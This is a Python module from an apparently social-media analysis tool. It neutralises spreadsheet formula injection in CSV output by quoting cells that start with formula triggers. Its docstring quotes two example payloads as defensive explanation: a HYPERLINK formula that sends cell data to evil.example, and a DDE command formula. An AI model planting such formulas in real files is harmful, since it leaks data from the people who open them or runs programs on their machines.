"""Hostile input in outputs: spreadsheet formula injection in CSV files.

Post texts, account names and URLs come from the platforms, so anyone can choose them. A CSV
cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading a formula) is run as a formula when the file is opened in
Excel, LibreOffice or Google Sheets: ``=HYPERLINK("https://evil.example/?"&A1, "click")``
leaks data, ``=cmd|' /C calc'!A0`` ran programs in older versions. Following OWASP's advice,
such cells are written with a single quote in front, which spreadsheets show as text.

The Parquet evidence and the network files keep the values exactly as read; only CSV cells
change, and ``inconcert detect --raw-csv`` turns this off. :func:`restore_formula` undoes it for
one value.
"""

from __future__ import annotations

import pyarrow as pa
import pyarrow.compute as pc

__all__ = ["FORMULA_TRIGGERS", "neutralise_formulas", "restore_formula"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

_PATTERN = "^[=+\\-@\t\r]"


def _neutralise_array(arr: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    if arr.null_count == len(arr):
        return arr
    hit = pc.match_substring_regex(arr, _PATTERN)
    if not pc.any(hit).as_py():
        return arr
    quoted = pc.binary_join_element_wise(pa.scalar("'", arr.type), arr, "")
    return pc.if_else(hit, quoted, arr)


def neutralise_formulas(table: pa.Table) -> pa.Table:
    """Prefix every string cell that a spreadsheet would run as a formula with ``'``.

    Parameters
    ----------
    table:
        Any Arrow table. Only ``string`` and ``large_string`` columns change (dictionary-encoded
        string columns are decoded to plain strings); numbers, timestamps and nulls are left
        alone, so ``-1`` stays a number.

    Returns
    -------
    pyarrow.Table
        The same columns, with cells starting with ``= + - @``, a tab or a carriage
        return written as ``'=...``. Tables without such cells are returned unchanged.

    Examples
    --------
    >>> import pyarrow as pa
    >>> neutralise_formulas(pa.table({"a": ["=1+1", "ok", None]})).column("a").to_pylist()
    ["'=1+1", 'ok', None]
    """
    columns = []
    changed = False
    for field, col in zip(table.schema, table.columns, strict=True):
        typ = field.type
        if pa.types.is_dictionary(typ) and (
            pa.types.is_string(typ.value_type) or pa.types.is_large_string(typ.value_type)
        ):
            col = col.cast(typ.value_type)
            typ = typ.value_type
        if pa.types.is_string(typ) or pa.types.is_large_string(typ):
            new = _neutralise_array(col)
            changed = changed or new is not col
            columns.append(new)
        else:
            columns.append(col)
    if not changed:
        return table
    return pa.Table.from_arrays(columns, names=table.column_names)


def restore_formula(value: str) -> str:
    """Undo :func:`neutralise_formulas` for one value read back from a neutralised CSV.

    Only a quote followed by a formula trigger is removed, so ``"'=1"`` becomes ``"=1"`` while
    ``"'hello"`` stays as it is. A value that *started* with ``'=`` before neutralisation cannot
    be told apart from a neutralised one: callers that can (the report checks account ids
    against ``evidence.parquet``) should prefer the exact value.
    """
    if len(value) >= 2 and value[0] == "'" and value[1] in FORMULA_TRIGGERS:
        return value[1:]
    return value
